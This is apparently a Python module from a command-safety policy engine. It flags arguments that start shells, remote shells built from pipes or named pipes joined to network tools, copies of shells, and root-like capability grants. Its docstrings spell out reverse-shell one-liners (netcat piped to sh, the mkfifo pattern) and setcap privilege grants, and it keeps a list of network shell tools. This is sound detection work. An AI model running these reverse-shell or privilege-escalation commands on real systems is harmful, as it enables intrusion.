"""Shells and interpreters named in arguments (tiers.md v3.2): which words start one (``/bin/sh``, ``EXEC:bash``,
``!sh``, ``system("sh")``, ``$(which bash)``), copies of a shell made by the text, remote shells made of pipes
and named pipes joined to the network, and capabilities that give a program root's powers.

Used by the generic argument rules (:mod:`core.policy.shell.effects.arguments`), the dispatch and the walker.
"""

from __future__ import annotations

import re
from functools import lru_cache

from core.policy import _paths as P
from core.policy import tables as T
from core.policy.shell.effects.addresses import (
    destination_with_port,
    maybe_destination,
)
from core.policy.shell.state import FileInput
from core.tiers import Tier

S, L, M, H, C = Tier.SAFE, Tier.LOW, Tier.MEDIUM, Tier.HIGH, Tier.CRITICAL
MARK = P.UNKNOWN_MARK
#: arguments of one command looked at here (as many as the generic rules read)
MAX_WORDS = 64


#: shells and interpreters whose name in an argument means the program starts them
SHELL_NAMES = frozenset(T.SHELLS | set(T.INTERPRETERS) | {
    "guile", "racket", "sbcl", "clisp", "ecl", "csi", "gsi", "chez", "ocaml", "utop", "erl", "iex", "scala",
    "groovysh", "kotlinc", "bpython", "ptpython", "psysh", "tcl", "jython", "jruby", "rakudo", "raku",
    "tclsh", "wish", "expect", "python2.7", "python3.8", "python3.9", "python3.10", "python3.11", "python3.12",
    "python3.13", "perl5", "php-cli", "php7", "php8", "lua5.1", "lua5.2", "lua5.3", "lua5.4", "busybox-sh",
    "elvish", "xonsh", "ysh", "jshell", "ghci", "irb", "pry",
    "posh", "oksh", "loksh", "lksh", "pdksh", "osh", "hush", "sash", "scsh", "nushell", "murex",
})


#: words after which a shell's name is data (`kubectl completion bash`, `starship init bash`, `--shell zsh`)
SHELL_AS_DATA = frozenset(("completion", "completions", "init", "hook", "activate", "shellenv", "shell-init",
                           "--shell", "-s", "install-completion", "--install-completion", "env", "setup",
                           "generate-shell-completion", "complete", "gen-completions", "print-shell"))
#: variables whose value names a shell for others to use later (not started now)
SHELL_SETTING_VARS = ("SHELL=", "CONFIG_SHELL=", "SHELL:=", "shell=")


SHELL_NAME_PATTERN = "|".join(sorted((re.escape(s) for s in SHELL_NAMES), key=len, reverse=True)) + (
    r"|(?:python|pypy|perl|ruby|php|lua|tclsh|wish|node)\d+(?:\.\d+)*")  # (python3.14, perl5.36: any version)
#: a shell or interpreter started inside an argument: at its start or after `!`, `:!`, `|`, `=`, `:`, a quote,
#: a bracket, `;`, `,` (``EXEC:'bash -li'``, ``!sh``, ``system("/bin/sh")``, ``--pre=sh``); an absolute path to
#: one anywhere (``spawn /bin/sh``). Not a bare name after a blank: in prose ("fix the bash script") it is data.
_SHELL_IN = re.compile(r"(?i)(?:(?:^|[!|=:'\"(`;,{\[%])(?:[\w.-]*/)*|(?<=\s)/(?:[\w.-]+/)*)(" + SHELL_NAME_PATTERN +
                       r")(?=$|[\s'\"),;`&|}\]])|(?<=\s)(" + SHELL_NAME_PATTERN + r")(?=\s+-[cil]+\b)")
#: capabilities that let a program act as root (``setcap cap_setuid+ep FILE``, ``capsh --caps=…``)
_PRIVILEGE_CAPS = re.compile(r"(?i)\bcap_(?:setuid|setgid|sys_admin|dac_override|dac_read_search|sys_ptrace|chown|"
                              r"fowner|sys_module|sys_rawio|setfcap|setpcap)\b")
_CAP_GRANT = re.compile(r"[=+][a-z]{0,3}e")




def grants_privileges(args: list) -> bool:
    """A capability text among ``args`` that gives a root-like capability effective (``cap_setuid+ep``,
    ``cap_sys_admin=eip``): each word read on its own, at most 256 characters of it (linear on any input)."""
    for a in args[:MAX_WORDS]:
        if "cap_" in a or "CAP_" in a:
            w = a[:256]
            if _PRIVILEGE_CAPS.search(w) and _CAP_GRANT.search(w):
                return True
    return False
#: an interpreter's name with a version (python3.14, perl5.36, tclsh8.6)
VERSIONED = re.compile(r"(?:python|pypy|perl|ruby|php|lua|tclsh|wish|node)\d+(?:\.\d+)*$")
#: the name-like tokens of a word (a shell's name is one of them)
_NAME_TOKENS = re.compile(r"[A-Za-z][A-Za-z0-9.+_-]*")



def shell_somewhere(word: str) -> tuple[str, str] | None:
    """A shell whose directory is known only at run time: ``$SHELL``, ``$(which sh)``, ``$(command -v bash)``,
    ``$BIN/bash`` (expanded as the unknown mark, then ``/NAME``): (its name, the word)."""
    if " " in word or "/" not in word:
        return None
    name = word.rsplit("/", 1)[1]
    if name in SHELL_NAMES or VERSIONED.match(name):
        return f"{name} (its path known at run time)", word
    return None



@lru_cache(maxsize=4096)
def shell_named(word: str) -> tuple[str, str] | None:
    """A shell or interpreter started by a word (``/bin/sh``, ``EXEC:'bash -li'``, ``!sh``, ``:!bash``,
    ``system("/bin/sh")``, ``--on-download-complete=sh``): (its name, the command text from it), or None."""
    if word.startswith(SHELL_SETTING_VARS):
        return None
    for tok in _NAME_TOKENS.findall(word):  # (a cheap test first: most words name no shell)
        if tok in SHELL_NAMES or tok.lower() in SHELL_NAMES or VERSIONED.match(tok):
            break
    else:
        return None
    m = _SHELL_IN.search(word)
    if m is None:
        return None
    g = 1 if m.group(1) is not None else 2
    name = m.group(g).lower()
    if m.start(g) == 0 and m.end(g) == len(word) and name not in T.SHELLS:
        return None  # (`knife node list`: an interpreter's bare name as a word is a noun; a shell's is a start)
    start = m.start(g)
    # the path before the name belongs to the command (`/bin/sh -i`)
    while start > 0 and word[start - 1] not in "!|=: '\"(`;,{[%":
        start -= 1
    # the command ends where what opened it closes: a quote, a bracket; after `=`/`:` at a comma (socat's
    # EXEC:bash -li,pty); at the start of the word it is the whole word
    opener = word[start - 1] if start > 0 else ""
    closer = {"'": "'", '"': '"', "(": ")", "{": "}", "[": "]", "`": "`"}.get(opener)
    if closer is None and opener in ("=", ":"):
        closer = ","
    end = word.find(closer, m.end(g)) if closer else -1
    return name, word[start:end if end >= 0 else len(word)].strip()


#: programs that connect a pipe to the network (a shell between two of them, or fed by one, is a remote shell)
NETWORK_CONNECTORS = frozenset(("nc", "ncat", "netcat", "socat", "telnet", "openssl", "gnutls-cli", "cryptcat",
                                "sbd", "pwncat", "rlwrap-nc", "nc.traditional", "nc.openbsd", "websocat", "sslclient",
                                "tcpclient", "mosquitto_sub", "ssh"))


def pipeline_remote_shell(words_per_stage: list, acc) -> None:
    """A pipeline joining a shell or interpreter to a network connector (``nc HOST PORT | sh | nc HOST PORT``,
    ``sh -i 2>&1 | nc HOST PORT``, ``openssl s_client … | sh``): a remote shell (HIGH). ``words_per_stage``:
    each stage's literal words (None for a word not known until run time)."""
    shell = net = None
    dest = None
    for words in words_per_stage:
        if not words or words[0] is None:
            continue
        w = words
        while w and w[0] in T.WRAPPERS and len(w) > 1:
            w = w[1:]
        prog = (w[0] or "").rsplit("/", 1)[-1]
        if prog in SHELL_NAMES or (prog.startswith("python") and prog[6:].replace(".", "").isdigit()):
            shell = shell or prog
        elif prog in NETWORK_CONNECTORS:
            net = net or prog
            if dest is None:
                dest = destination_with_port([x for x in w[1:] if x])
    if shell and net:
        acc.add(H, "shell.remote_shell", f"starts a remote shell{' to ' + dest if dest else ''} ({shell} piped to {net})")


#: facts in ``Ctx.flags``: named pipes this text made (FIFO + path, and FIFO alone once any), a shell reading its
#: commands from one (FIFO_SHELL), a program joined to the network in the same text (FIFO_NET, and FIFO_DEST +
#: its destination)
FIFO = "fifo:"
FIFO_SHELL = "fifo\x01shell"
FIFO_NET = "fifo\x01net"
FIFO_DEST = "fifo\x01dest:"


def fifo_remote_shell(prog: str, args: list, stdin, ctx, acc) -> None:
    """The fifo reverse shell, however its halves are spelt and ordered (``mkfifo p; sh -i < p 2>&1 | nc HOST
    PORT > p``, two fifos with the shell in the background or a subshell, any program that connects): a shell
    or interpreter reads its commands from a named pipe this text made (``mkfifo``, ``mknod NAME p``), and a
    program in the same text connects to a network destination (or is a network connector): HIGH."""
    if prog == "mkfifo" or prog == "mknod":
        pos = [a for k, a in enumerate(args[:32]) if a[:1] != "-" and not (k and args[k - 1] in ("-m", "--mode",
                                                                                              "-Z", "--context"))]
        if prog == "mknod":
            pos = pos[:1] if pos[1:2] == ["p"] else []
        for a in pos[:16]:
            if MARK not in a and len(ctx.flags) < 256:
                ctx.flags.add(FIFO + P.normalize(a, ctx.cwd))
                ctx.flags.add(FIFO)
        return
    if not ctx.flags or FIFO not in ctx.flags:
        return
    if prog in SHELL_NAMES or VERSIONED.match(prog):
        if type(stdin) is not FileInput or MARK in stdin.path or FIFO + P.normalize(stdin.path, ctx.cwd) not in (
                ctx.flags) or not (all(a[:1] == "-" for a in args) or "-s" in args):
            return  # (its commands from its input: no script, no -c; `python3 worker.py < p` reads data)
        ctx.flags.add(FIFO_SHELL)
    else:
        dest = destination_with_port([a for a in args[:MAX_WORDS] if a and maybe_destination(a)] if args else [])
        if dest is None and prog not in NETWORK_CONNECTORS:
            return
        ctx.flags.add(FIFO_NET)
        if dest is not None:
            ctx.flags.add(FIFO_DEST + dest)
    if FIFO_SHELL in ctx.flags and FIFO_NET in ctx.flags:
        dest = next((x[len(FIFO_DEST):] for x in ctx.flags if x.startswith(FIFO_DEST)), None)
        acc.add(H, "shell.remote_shell", f"starts a remote shell{' to ' + dest if dest else ''} (a shell reads its "
                                         f"commands from a named pipe joined to the network)")



#: a fact in ``Ctx.flags``: a copy (or link) of a shell this text made (``cp /bin/sh ./x``), then ``\x01NAME``
SHELL_COPY = "shellcopy:"


def shell_copies(ctx) -> tuple:
    """The copies of shells this text made (part of what a command's arguments name)."""
    return tuple(x for x in ctx.flags if x[:10] == SHELL_COPY) if ctx.flags else ()


def note_shell_copy(src: str, dest: str, into_dir: bool, ctx) -> None:
    """``cp``/``ln``/``install`` of a shell or interpreter (``/bin/sh``, ``$(which bash)``) to ``dest``: the copy
    is that shell under another name (``into_dir``: ``dest`` is a directory, the copy keeps the name)."""
    name = src.rstrip("/").rsplit("/", 1)[-1]
    if not (src[:1] in "/" + MARK and "/" in src and (name in SHELL_NAMES or VERSIONED.match(name))) or (
            MARK in dest or len(ctx.flags) > 256):
        return
    keys = [P.normalize(dest.rstrip("/") + "/" + name, ctx.cwd)]
    if not into_dir:
        keys.append(P.normalize(dest, ctx.cwd))  # (cp /bin/sh x: x, unless x is a directory)
    for key in keys:
        ctx.flags.add(SHELL_COPY + key)
        ctx.flags.add(f"{SHELL_COPY}{key}\x01{name}")


def copied_shell(key: str, ctx) -> str | None:
    """The shell a path (normalized) is a copy of, made earlier in this text, or None."""
    if not ctx.flags or SHELL_COPY + key not in ctx.flags:
        return None
    head = f"{SHELL_COPY}{key}\x01"
    return next((x[len(head):] for x in ctx.flags if x.startswith(head)), "sh")


def shell_copy(v: str, ctx) -> tuple[str, str] | None:
    """A path this text made a copy (or link) of a shell at (``cp /bin/sh ./x``): (what it is, the path)."""
    name = copied_shell(P.normalize(v, ctx.cwd), ctx)
    if name is not None:
        return f"{v} (a copy of {name})", v
    return None
